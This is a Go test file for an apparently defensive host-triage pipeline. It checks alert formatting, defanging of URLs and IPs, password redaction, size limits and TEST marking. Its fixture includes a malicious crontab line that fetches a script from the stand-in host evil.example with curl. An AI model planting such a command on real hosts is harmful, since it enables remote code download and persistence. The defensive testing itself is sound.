package pipeline_test

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"os"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/santhosh-tekuri/jsonschema/v6"

	"diffy/pkg/pipeline"
	"diffy/pkg/triage"
)

// publishResult publishes a result as if it had been analysed.
func (w *world) publishResult(r triage.Result) pipeline.Message {
	w.Helper()
	ctx := context.Background()
	data, err := json.Marshal(r)
	w.check(err)
	w.objects["work/"+pipeline.ResultKey("run-1")] = data
	w.check(w.SaveRun(ctx, pipeline.Run{ID: "run-1", GroupKey: r.Group.Key, Account: "1111", Region: "eu-west-1", Purpose: triage.PurposeTriage}))
	publish := w.publish()
	publish.Report = func(run string) string { return "https://console.example/" + run }
	_, err = publish.Handle(ctx, pipeline.RunIn{Run: "run-1"})
	w.check(err)
	w.conforms(w.published[0])
	return w.published[0]
}

// conforms checks a message against the schema, and what SNS takes.
func (w *world) conforms(m pipeline.Message) {
	w.Helper()
	text, err := os.ReadFile("../../docs/alert.schema.json")
	w.check(err)
	doc, err := jsonschema.UnmarshalJSON(bytes.NewReader(text))
	w.check(err)
	c := jsonschema.NewCompiler()
	w.check(c.AddResource("alert.json", doc))
	schema, err := c.Compile("alert.json")
	w.check(err)
	alert, err := jsonschema.UnmarshalJSON(bytes.NewReader(m.Alert))
	w.check(err)
	if err := schema.Validate(alert); err != nil {
		w.Errorf("the alert is not one of its schema: %v\n%s", err, m.Alert)
	}
	if len(m.Subject) >= 100 || strings.ContainsFunc(m.Subject, func(c rune) bool { return c < ' ' || c > '~' }) {
		w.Errorf("subject %q", m.Subject)
	}
}

func attacked() triage.Result {
	return triage.Result{
		Run:   triage.RunInfo{ID: "run-1", Incident: "INC-7", Trigger: &triage.Trigger{Source: "guardduty", Type: "Execution:Runtime/ReverseShell", Severity: 8, Time: "2026-11-24T03:07:58Z"}},
		Group: triage.GroupResult{Key: "asg:web", HostsRequested: 4, Examined: 2, Partial: 1, NotExamined: 1},
		Hosts: []triage.HostResult{
			{Host: "i-1", Status: triage.Examined, Score: 31, Outlier: true, Findings: 2, Suspect: true},
			{Host: "i-2", Status: triage.Examined},
			{Host: "i-3", Status: triage.Partial, Reason: "1 query failed"},
			{Host: "i-4", Status: triage.NotExamined, Reason: "SSM: TimedOut, DeliveryTimedOut", Suspect: true},
		},
		Findings: []triage.Finding{
			{
				ID: "f1", Hosts: []string{"i-1"}, Query: "crontab", Kind: triage.Added, HostsWith: 1, HostsCompared: 3, Severity: triage.High,
				Key: triage.Row{"command": "curl --user ops:s3cret http://evil.example/x.sh", "path": "/etc/cron.d/x"}, Row: triage.Row{"minute": "*/5"},
			},
			{ID: "f2", Hosts: []string{"i-1"}, Query: "processes", Kind: triage.Changed, ChangedColumns: []string{"uid"}, HostsWith: 1, HostsCompared: 3, Severity: triage.Medium},
			{ID: "f3", Hosts: []string{"i-2"}, Query: "mounts", Kind: triage.Added, HostsWith: 1, HostsCompared: 3, Severity: triage.Low},
		},
		Pivots: []triage.PivotResult{
			{Kind: triage.PivotIP, Value: "198.51.100.23", Seen: []string{"i-1"}, NotSeen: []string{"i-2"}, Unknown: []string{"i-3", "i-4"}},
			{Kind: triage.PivotPath, Value: "/tmp/.x", NotSeen: []string{"i-1", "i-2"}},
		},
	}
}

func TestMessage(t *testing.T) {
	m := newWorld(t).publishResult(attacked())
	want := `1 of 3 examined hosts stands out.

Group      asg:web in 1111, eu-west-1; incident INC-7
Trigger    Execution:Runtime/ReverseShell, severity 8.0, 2026-11-24 03:07:58 UTC
Suspects   i-1 stands out; i-4 was not examined: SSM: TimedOut, DeliveryTimedOut
Examined   2 of 4 hosts whole, 1 in part, 1 not at all
Outliers   1. i-1, the suspect: score 31.0, 2 findings
              high crontab added: curl --user ops:[redacted] http[:]//evil[.]example/x.sh · /etc/cron.d/x, on 1 of 3 hosts
              medium processes changed: uid, on 1 of 3 hosts
Asked for  ip 198[.]51[.]100[.]23 seen on 1 host, unknown on 2; 1 more in the report
Not seen   1 host: 1 query failed; 1 host: SSM: TimedOut, DeliveryTimedOut

Read on    https://console.example/run-1
           diffy runs report run-1
`
	if diff := cmp.Diff(want, m.Text); diff != "" {
		t.Errorf("text (-want +got):\n%s", diff)
	}
	if diff := cmp.Diff(map[string]string{
		"id": "run-1/succeeded", "status": "succeeded", "severity": "high", "group": "asg:web", "account": "1111", "region": "eu-west-1",
		"test": "false",
	}, m.Attributes); diff != "" {
		t.Errorf("attributes (-want +got):\n%s", diff)
	}
	if diff := cmp.Diff(map[string]int{"outliers": 1, "coverage": 50}, m.Numbers); diff != "" {
		t.Errorf("numbers (-want +got):\n%s", diff)
	}
	if m.Subject != "diffy HIGH asg:web: 1 of 3 examined hosts stands out" {
		t.Errorf("subject %q", m.Subject)
	}
	for _, form := range []string{string(m.Alert), m.Text, string(m.Chat)} {
		if strings.Contains(form, "s3cret") {
			t.Errorf("a password leaves:\n%s", form)
		}
	}
}

// The chat form is the one that Amazon Q passes on.
func TestChatMessage(t *testing.T) {
	m := newWorld(t).publishResult(attacked())
	var got map[string]any
	if err := json.Unmarshal(m.Chat, &got); err != nil {
		t.Fatal(err)
	}
	want := map[string]any{
		"version": "1.0", "source": "custom", "id": "run-1/succeeded",
		"content": map[string]any{
			"textType": "client-markdown",
			"title":    ":red_circle: 1 of 3 examined hosts stands out",
			"description": "Group: `asg:web` in 1111, eu-west-1; incident INC-7\n" +
				"Trigger: `Execution:Runtime/ReverseShell`, severity 8.0, 2026-11-24 03:07:58 UTC\n" +
				"Suspects: `i-1` stands out; `i-4` was not examined: `SSM: TimedOut, DeliveryTimedOut`\n" +
				"Examined: 2 of 4 hosts whole, 1 in part, 1 not at all\n" +
				"1. `i-1`, the suspect: score 31.0, 2 findings\n" +
				"- high crontab added: `curl --user ops:[redacted] http[:]//evil[.]example/x.sh · /etc/cron.d/x`, on 1 of 3 hosts\n" +
				"- medium processes changed: `uid`, on 1 of 3 hosts\n" +
				"Asked for: ip `198[.]51[.]100[.]23` seen on 1 host, unknown on 2; 1 more in the report\n" +
				"Not seen: 1 host: `1 query failed`; 1 host: `SSM: TimedOut, DeliveryTimedOut`",
			"nextSteps": []any{"Open the report: https://console.example/run-1", "Run `diffy runs report run-1`"},
			"keywords":  []any{"diffy", "high"},
		},
		"metadata": map[string]any{"threadId": "INC-7", "summary": "1 of 3 examined hosts stands out", "eventType": "diffy.alert/1"},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("chat (-want +got):\n%s", diff)
	}
}

// A result of ten thousand outliers, with every name as long and as awkward as can
// be, gives a message that SNS takes: its limit is on all of the envelope.
func TestMessageBounds(t *testing.T) {
	awkward := func(n int, i int) string { return strings.Repeat("\"\\<\x1b\u202e\u2028", n) + fmt.Sprint(i) }
	r := triage.Result{
		Run:   triage.RunInfo{ID: "run-1", Incident: awkward(900, 0), Trigger: &triage.Trigger{ID: awkward(900, 0), Type: awkward(900, 0), Source: awkward(900, 0), Time: awkward(900, 0)}},
		Group: triage.GroupResult{Key: "tag:" + awkward(900, 0), HostsRequested: 10_000, Examined: 10_000},
	}
	for i := range 10_000 {
		host := awkward(60, i)
		r.Hosts = append(r.Hosts, triage.HostResult{Host: host, Status: triage.Partial, Reason: awkward(60, i), Outlier: true, Suspect: true, Findings: 9})
		for j := range 4 {
			if i < 20 {
				r.Findings = append(r.Findings, triage.Finding{
					ID: awkward(90, j), Hosts: []string{host}, Query: awkward(90, i), Kind: triage.Changed, Severity: triage.High,
					Key: triage.Row{"command": awkward(900, i), "path": awkward(900, i)}, ChangedColumns: []string{awkward(900, i)},
				})
			}
		}
	}
	for i := range 50 {
		r.Pivots = append(r.Pivots, triage.PivotResult{Kind: triage.PivotPath, Value: awkward(900, i), Seen: []string{"i-1"}})
	}
	m := newWorld(t).publishResult(r)
	size := len(m.Subject)
	body, err := json.Marshal(map[string]string{"default": string(m.Alert), "email": m.Text})
	if err != nil {
		t.Fatal(err)
	}
	for name, value := range m.Attributes {
		size += len(name) + len("String") + len(value)
	}
	if size += len(body); size > 200_000 {
		t.Errorf("the envelope has %d bytes; SNS takes 262,144", size)
	}
	if len(m.Chat) > 100_000 {
		t.Errorf("the chat message has %d bytes", len(m.Chat))
	}
	t.Logf("envelope %d bytes, alert %d, text %d, chat %d", size, len(m.Alert), len(m.Text), len(m.Chat))
	if lines := strings.Count(m.Text, "\n"); lines > 15 {
		t.Errorf("the text has %d lines", lines)
	}
	for _, form := range []string{string(m.Alert), m.Text, string(m.Chat), m.Attributes["group"]} {
		if strings.ContainsAny(form, "\x1b\u202e\u2028") {
			t.Errorf("something acts on its reader: %.300q", form)
		}
	}
}

func TestVerdict(t *testing.T) {
	odd := triage.HostResult{Host: "i-1", Status: triage.Examined, Outlier: true}
	tests := []struct {
		name               string
		group              triage.GroupResult
		hosts              []triage.HostResult
		findings           []triage.Finding
		verdict, severity  string
		outliers, coverage int
	}{
		{"nobody seen", triage.GroupResult{HostsRequested: 3, NotExamined: 3}, nil, nil, "None of 3 hosts could be examined", "unknown", 0, 0},
		{"nothing found", triage.GroupResult{HostsRequested: 3, Examined: 1, Partial: 1, NotExamined: 1}, nil, nil, "No host stands out among the 2 of 3 examined", "none", 0, 33},
		{
			"nothing loud",
			triage.GroupResult{HostsRequested: 3, Examined: 3},
			nil,
			[]triage.Finding{{Severity: triage.Info}, {Severity: triage.Low}},
			"No host stands out among the 3 hosts examined", "low", 0, 100,
		},
		{"one", triage.GroupResult{HostsRequested: 3, Examined: 3}, []triage.HostResult{odd}, []triage.Finding{{Severity: triage.Medium}}, "1 of 3 examined hosts stands out", "medium", 1, 100},
		{"the only one", triage.GroupResult{HostsRequested: 1, Examined: 1}, []triage.HostResult{odd}, nil, "1 of 1 examined host stands out", "none", 1, 100},
		{"several", triage.GroupResult{HostsRequested: 2000, Examined: 1999}, []triage.HostResult{odd, odd}, nil, "2 of 1,999 examined hosts stand out", "none", 2, 99},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			m := newWorld(t).publishResult(triage.Result{Group: test.group, Hosts: test.hosts, Findings: test.findings})
			if got, _, _ := strings.Cut(m.Text, ".\n"); got != test.verdict {
				t.Errorf("verdict %q, expected %q", got, test.verdict)
			}
			if m.Attributes["severity"] != test.severity || m.Numbers["outliers"] != test.outliers || m.Numbers["coverage"] != test.coverage {
				t.Errorf("attributes %v, %v", m.Attributes, m.Numbers)
			}
		})
	}
}

func TestBaselineMessage(t *testing.T) {
	for name, test := range map[string]struct {
		hosts []triage.HostResult
		want  string
	}{
		"clean":  {nil, "A baseline was stored from 2 of 2 hosts."},
		"broken": {[]triage.HostResult{{Host: "i-1", Outlier: true}}, "A baseline was stored, and is not to be trusted yet: 1 of 2 examined hosts stands out."},
	} {
		t.Run(name, func(t *testing.T) {
			w := newWorld(t)
			ctx := context.Background()
			data, err := json.Marshal(triage.Result{Group: triage.GroupResult{HostsRequested: 2, Examined: 2}, Hosts: test.hosts})
			w.check(err)
			w.objects["work/"+pipeline.ResultKey("run-1")] = data
			w.check(w.SaveRun(ctx, pipeline.Run{ID: "run-1", Purpose: triage.PurposeBaseline}))
			_, err = w.publish().Handle(ctx, pipeline.RunIn{Run: "run-1"})
			w.check(err)
			if got, _, _ := strings.Cut(w.published[0].Text, "\n"); got != test.want {
				t.Errorf("verdict %q, expected %q", got, test.want)
			}
		})
	}
}

// A run that failed says why, with the secrets of its reason taken out.
func TestFailureMessage(t *testing.T) {
	w := newWorld(t)
	ctx := context.Background()
	w.check(w.SaveRun(ctx, pipeline.Run{ID: "run-1", GroupKey: "asg:web", Incident: "INC-7", Account: "1111", Region: "eu-west-1", Purpose: triage.PurposeTriage}))
	fail := w.fail()
	fail.Execution = func(run string) string { return "https://console.example/executions/" + run }
	_, err := fail.Handle(ctx, pipeline.FailIn{Run: "run-1", Error: &pipeline.Caught{Error: "NoHosts", Cause: "no host matches http://x:pw@evil.example"}})
	w.check(err)
	m := w.published[0]
	w.conforms(m)
	want := `The run failed: NoHosts: no host matches http[:]//x:[redacted]@evil[.]example.

Group      asg:web in 1111, eu-west-1; incident INC-7

Read on    https://console.example/executions/run-1
           diffy runs show run-1
`
	if diff := cmp.Diff(want, m.Text); diff != "" {
		t.Errorf("text (-want +got):\n%s", diff)
	}
	if m.Attributes["severity"] != "unknown" || m.Attributes["status"] != "failed" {
		t.Errorf("attributes %v", m.Attributes)
	}
}

// A sample is marked TEST in every form.
func TestSampleMessage(t *testing.T) {
	w := newWorld(t)
	data, err := os.ReadFile("../../events/guardduty-sample-flag.json")
	w.check(err)
	_, err = w.trigger().Handle(context.Background(), data)
	w.check(err)
	m := w.published[0]
	w.conforms(m)
	for _, form := range []string{m.Subject, m.Text, string(m.Alert), string(m.Chat)} {
		if !strings.Contains(form, "TEST") {
			t.Errorf("not marked as a test: %s", form)
		}
	}
	if m.Attributes["test"] != "true" || m.Attributes["status"] != "test" {
		t.Errorf("attributes %v", m.Attributes)
	}
}
